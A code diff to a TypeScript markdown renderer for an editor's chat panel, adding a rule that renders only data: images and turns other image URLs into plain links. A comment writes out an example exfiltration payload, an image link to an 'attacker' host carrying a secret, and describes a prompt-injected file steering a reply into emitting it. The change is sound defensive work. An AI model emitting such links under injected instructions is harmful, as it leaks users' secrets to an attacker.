@@ -4,7 +4,8 @@
  *
  * Safety: markdown-it runs with `html: false`, so raw HTML in a reply is
  * escaped, and its link validator drops javascript:, vbscript:, file: and
- * non-image data: URLs. Everything else inserted here goes through escapeHtml.
+ * non-image data: URLs. Images load only from data: URLs; others become links.
+ * Everything else inserted here goes through escapeHtml.
  */
 import MarkdownIt from 'markdown-it';
 import { ChatEntry } from '../logic/chatTypes';
@@ -49,6 +50,22 @@ md.renderer.rules.fence = (tokens, idx) => {
 // Indented code blocks get the same frame as fenced ones.
 md.renderer.rules.code_block = (tokens, idx, options, env, self) =>
   md.renderer.rules.fence!(tokens, idx, options, env, self);
+
+// A reply must not make the editor fetch anything: `![](https://attacker/?d=<secret>)`
+// in a reply (easily steered by a prompt-injected file) would otherwise be
+// requested the moment it renders. Only data: images render; any other image
+// becomes a plain link the user may choose to open. The CSP (logic/html.ts)
+// blocks remote images too.
+const renderImage = md.renderer.rules.image!;
+md.renderer.rules.image = (tokens, idx, options, env, self) => {
+  const token = tokens[idx];
+  const src = token.attrGet('src') ?? '';
+  if (/^data:image\//i.test(src)) {
+    return renderImage(tokens, idx, options, env, self);
+  }
+  const alt = self.renderInlineAsText(token.children ?? [], options, env);
+  return `<a href="${escapeHtml(src)}" class="image-link" title="image not loaded: ${escapeHtml(src)}">${escapeHtml(alt ? `image: ${alt}` : src)}</a>`;
+};
 
 export function renderMarkdown(text: string): string {
   return md.render(text);
